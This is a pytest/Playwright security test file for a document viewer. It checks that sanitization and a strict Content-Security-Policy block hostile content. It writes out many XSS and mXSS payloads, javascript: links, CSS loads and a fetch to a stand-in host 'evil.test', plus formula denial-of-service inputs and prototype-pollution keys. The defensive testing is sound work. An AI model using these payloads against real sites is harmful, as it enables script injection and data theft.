"""A hostile document, a hostile service, a hostile web page: in the viewer nothing of them runs, loads or gets out."""

from __future__ import annotations

import base64
from typing import Any

import httpx
import pytest
from kit.gateway import pages
from playwright.sync_api import Browser, Page, expect
from viewer_stack import JPEG, Service, Watched, block, picture, read_sample, refused, result, served, success, watched

RUN = "window.hacked=(window.hacked||0)+1"
OUT = "https://evil.test"
SVG = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{OUT}/svg.png"/></svg>'.encode()
).decode()

TEXT = f"<script>{RUN}</script> <img src=x onerror={RUN}> <b onclick={RUN}>bold</b> "
MARKDOWN = [
    "$ \\smash{\\raisebox{2em}{\\rule{19em}{19em}}} $",  # at the top, to cover the buttons above it
    f"# Title {TEXT}",
    f"[one](javascript:{RUN}) [two](JaVaScRiPt&colon;{RUN}) [three](data:text/html,<script>{RUN}</script>) [four](vbscript:x)",
    f'<a href="javascript:{RUN}">a</a> <a href=" &#1;javascript:{RUN}">b</a> <a href="{OUT}/link">c</a> <javascript:{RUN}>',
    f"![x]({OUT}/markdown.png) ![y](data:image/svg+xml;base64,{SVG}) ![z](//evil.test/z.png)",
    f'<img src="{OUT}/html.png" srcset="{OUT}/set.png 2x"> <img src="imgs/evil.svg"> <img data-picture="imgs/good.jpg">',
    f"<table background='{OUT}/table.png'><tr><td onmouseover={RUN} style='background:url({OUT}/cell.png)'>cell {TEXT}</td>"
    f"<td><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></td></tr></table>",
    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>svg</text></a><use href='{OUT}/u#a'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<style>@import url({OUT}/import.css); * {{ background: url({OUT}/style.png) }} #key[value^=s] {{ color: red }}</style>",
    f"<link rel=stylesheet href={OUT}/link.css><base href={OUT}/><meta http-equiv=refresh content='0;url={OUT}/'>",
    f"<form action={OUT}/form id=key><input name=innerHTML autofocus onfocus={RUN}><button formaction={OUT}>send</button></form>",
    f"<object data={OUT}/o></object><embed src={OUT}/e><video src={OUT}/v poster={OUT}/p></video><audio src={OUT}/a></audio>",
    f"<div id=status style='position:fixed;inset:0;background:url({OUT}/div.png)' onpointerenter={RUN}>cover</div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"$ \\href{{javascript:{RUN}}}{{x}} $ and $ \\includegraphics{{{OUT}/formula.png}} $ and $ \\url{{javascript:{RUN}}} $",
    f"$ \\htmlStyle{{background:url({OUT}/katex.png)}}{{x}} $ $ \\htmlData{{a=b}}{{x}} $ $ <img src=x onerror={RUN}> $",
    "$$ \\def\\x{\\x\\x}\\x $$",
    "$ \\rule{9999em}{9999em} $ $ \\kern9999em x $",
    f"<code data-formula=inline>\\href{{javascript:{RUN}}}{{y}}</code>",
    f"```\n<script>{RUN}</script>\n```",
    "end of the document",
]
IMAGES = {
    "imgs/evil.svg": SVG,
    "imgs/good.jpg": JPEG,
    f'x" onerror="{RUN}': JPEG,
    f"{OUT}/html.png": f"{OUT}/from-the-service.png",
    "__proto__": JPEG,
}
BLOCKS: list[dict[str, Any]] = [
    block(f'"><img src=x onerror={RUN}>', f"<script>{RUN}</script>{TEXT}", [10, 10, 90, 90]),
    block("text", "cell", [f"0;background:url({OUT}/bbox.png)", 1, 2, 3]),
    {"block_label": None, "block_content": {"toString": 1}, "block_bbox": None},
    block("constructor", "__proto__", [0, 0, 1e9, 1e9]),
]


def poke(found: Watched) -> None:
    """All that a curious person does."""
    page = found.page
    for part in page.locator(".part").all():
        part.dispatch_event("pointerenter")
        part.dispatch_event("mouseover")
    click = "one => one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))"
    page.evaluate(f"document.querySelectorAll('#pages .text :not(a[href], a[href] *)').forEach({click})")
    page.evaluate("document.querySelectorAll('dialog[open]').forEach(one => one.close())")
    for box in page.locator(".block").all():
        box.dispatch_event("click")
        page.evaluate("document.querySelector('dialog').close()")
    for button in ("#copy-markdown", "#copy-json", "#save-markdown", "#save-json"):
        page.click(button)


@pytest.mark.parametrize("without_policy", [False, True], ids=["as served", "policy out of the way"])
def test_nothing_of_a_hostile_document_runs_loads_or_covers(
    browser: Browser, service: tuple[Service, str], without_policy: bool
) -> None:
    service[0].answer = lambda path, request: success(result("\n\n".join(MARKDOWN), BLOCKS, IMAGES))
    options = {"permissions": ["clipboard-read", "clipboard-write"], "bypass_csp": without_policy}
    with watched(browser, service[1], **options) as found:
        page = found.page
        found.drop_in(f'"><img src=x onerror={RUN}>.png', picture("PNG"), "image/png")
        found.wait_done()
        page.wait_for_selector(".formula")
        expect(page.locator(".part", has_text="end of the document")).to_have_count(1)
        poke(found)
        inside = "#pages .text"
        assert page.evaluate("window.hacked") is None
        # Of each kind of attack nothing is left.
        for selector in ("script", "style", "link", "iframe", "object", "embed", "form", "input", "button", "base", "meta",
                         "video", "[style]:not(.katex *)", "[id]", "[name]", "[srcset]", "[background]"):  # fmt: skip
            assert page.locator(f"{inside} {selector}").count() == 0, selector
        handlers = """root => [...document.querySelectorAll(root + " *")].flatMap(one => one.getAttributeNames())
            .filter(name => name.startsWith("on"))"""
        assert page.evaluate(handlers, inside) == []
        links = page.locator(f"{inside} a[href]").evaluate_all("all => all.map(one => [one.href, one.target, one.rel])")
        assert links == [[f"{OUT}/link", "_blank", "noopener noreferrer"]]
        sources = page.locator(f"{inside} img").evaluate_all("all => all.map(one => one.src)")
        assert all(source.startswith("blob:") for source in sources), sources
        # What is text stays text, and what is beside the point stays: the hostile parts cost the others nothing.
        assert page.inner_text(f"{inside} pre").strip() == f"<script>{RUN}</script>"
        assert "cell" in page.inner_text(f"{inside} td >> nth=0")
        assert_controls_are_on_top(page)
        page.wait_for_load_state("networkidle")
        # While DOMPurify takes the document apart, Chromium reports what it would not run there; a load would be img-src, ….
        assert {kind for kind in found.violations() if not kind.endswith(" inline")} <= {f"base-uri {OUT}/"}
        page.evaluate("violations.length = 0")


def assert_controls_are_on_top(page: Page) -> None:
    """What lies at the place of the page's own controls, and of the page's blocks, are these."""
    for control in ("#key", "#again", "#copy-markdown", ".block"):
        page.locator(control).first.scroll_into_view_if_needed()
        on_top = "one => { const {x, y} = one.getBoundingClientRect(); return document.elementFromPoint(x + 9, y + 9) === one }"
        assert page.locator(control).first.evaluate(on_top), control


def test_what_a_document_shows_stays_in_its_pane(seen: Watched, service: tuple[Service, str]) -> None:
    """The third wall: what got past the others with a style of its own would neither lie nor paint over what is around it."""
    read_sample(seen, service[0])
    part, around = seen.page.locator(".part").first, seen.page.locator("#actions")
    before = around.screenshot()
    for place in (
        "position: fixed; inset: 0",
        "position: absolute; inset: -2000px",
        "margin: -999px; height: 4000px; width: 4000px",
    ):
        # As a script sets it: the policy would not let it be parsed.
        style = f"z-index: 999; background: red; box-shadow: 0 0 0 999px red; {place}"
        part.evaluate("(one, style) => one.style.cssText = style", style)
        assert part.evaluate("one => getComputedStyle(one).zIndex") == "999"
        assert_controls_are_on_top(seen.page)
        assert around.screenshot() == before, place


def test_a_hostile_error_is_text(seen: Watched, service: tuple[Service, str]) -> None:
    service[0].answer = lambda path, request: refused(422, TEXT)
    seen.drop_in("a.png", picture("PNG"), "image/png")
    expect(seen.page.get_by_role("alert")).to_contain_text(TEXT.strip())
    assert seen.page.locator("#problem *").count() == 0 and seen.page.evaluate("window.hacked") is None


def test_the_policy_alone_would_hold(browser: Browser, service: tuple[Service, str]) -> None:
    """The second wall: what got past DOMPurify would neither run nor load."""
    attack = f"""const box = document.createElement("div");
        box.innerHTML = `<img src="{OUT}/a.png" onerror="{RUN}"><p style="background:url({OUT}/b.png)" onclick="{RUN}">x</p>
            <style>@import url({OUT}/c.css)</style><iframe src="{OUT}"></iframe>`;
        document.body.append(box);
        const script = document.createElement("script"); script.textContent = "{RUN}"; document.body.append(script);
        const far = document.createElement("script"); far.src = "{OUT}/d.js"; document.body.append(far);
        box.querySelector("p").click();
        fetch("{OUT}/e").catch(() => 0);"""
    with watched(browser, service[1]) as found:
        page = found.page
        page.evaluate(f"() => {{ {attack} }}")
        page.wait_for_function("() => violations.some(one => one.startsWith('frame-src')) && violations.length >= 8")
        kinds = {violation.split()[0] for violation in found.violations()}
        assert {"img-src", "style-src-elem", "style-src-attr", "script-src-elem", "script-src-attr", "connect-src"} <= kinds
        assert page.evaluate("window.hacked") is None
        page.evaluate("violations.length = 0")
        # Chromium tells of requests that it has stopped by itself; none of them has left.
        found.requests[:] = [url for url in found.requests if not url.startswith(OUT)]


def test_the_policy_of_every_file_is_strict(service: tuple[Service, str]) -> None:
    for path in ("", "viewer/app.js", "viewer/vendor/pdfjs/pdf.worker.min.mjs"):
        reply = httpx.get(service[1] + path, trust_env=False)
        assert reply.status_code == 200, path
        policy = dict(part.strip().split(" ", 1) for part in reply.headers["Content-Security-Policy"].split(";"))
        assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'"
        assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
        assert "unsafe" not in pages.POLICY
        assert reply.headers["X-Content-Type-Options"] == "nosniff" and reply.headers["X-Frame-Options"] == "DENY"
        assert reply.headers["Referrer-Policy"] == "no-referrer"


def test_another_page_cannot_use_the_viewers_server(browser: Browser, service: tuple[Service, str]) -> None:
    """A web page that is open beside it, on another origin: here another viewer, with its policy out of the way."""
    attack = """async ([url, type]) => { try {
        const headers = type ? {"Content-Type": type} : {};
        const reply = await fetch(url + "layout-parsing", {method: "POST", body: "{}", headers});
        return reply.status; } catch { return "stopped"; } }"""
    with served() as (_, other):
        context = browser.new_context(bypass_csp=True)
        try:
            page = context.new_page()
            page.goto(other)
            for kind in ("application/json", "text/plain", ""):
                assert page.evaluate(attack, [service[1], kind]) == "stopped"
        finally:
            context.close()
    assert service[0].seen == []
